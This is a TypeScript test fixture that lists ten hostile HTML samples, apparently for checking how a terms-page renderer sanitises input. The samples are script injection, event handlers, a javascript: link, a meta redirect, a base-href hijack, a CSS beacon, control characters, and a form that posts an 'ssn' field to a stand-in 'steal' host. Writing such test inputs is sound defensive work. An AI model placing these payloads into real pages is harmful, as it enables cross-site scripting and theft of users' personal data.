const LINK = '<p>See the <a href="https://example.com/fairlight/terms" target="_blank">terms</a>.</p>';

export const HOSTILE_TEXTS = {
  script: `${LINK}<script>document.title = 'taken'; parent.document.title = 'taken';</script>\n`,
  handler: `${LINK}<img src="x" alt="" onerror="document.title = 'taken'">\n`,
  form: `${LINK}<form action="https://example.net/steal" method="post"><input name="ssn"><button>Agree</button></form>\n`,
  frame: `${LINK}<iframe src="https://example.net/"></iframe><object data="https://example.net/"></object>\n`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://example.net/">${LINK}\n`,
  link: `${LINK}<p><a href="javascript:document.title='taken'">Agree</a></p>\n`,
  style: `<style>body { position: fixed; inset: 0; background: url(https://example.net/seen) }</style>${LINK}\n`,
  base: `<base href="https://example.net/">${LINK}\n`,
  unclosed: `${LINK}<p title="<div></p></body></html><!-- ${LINK}\n`,
  entities: '<p>&lt;script&gt; \u202Ereversed\u202C \u0000 &#x200B;\uFEFF</p>\\n',
};

export const HOSTILE_KINDS = Object.keys(HOSTILE_TEXTS) as (keyof typeof HOSTILE_TEXTS)[];

/** Without `kind`, all texts in a row. */
export function hostileText(kind?: keyof typeof HOSTILE_TEXTS): string {
  return kind ? HOSTILE_TEXTS[kind] : HOSTILE_KINDS.map((kind) => HOSTILE_TEXTS[kind]).join('');
}
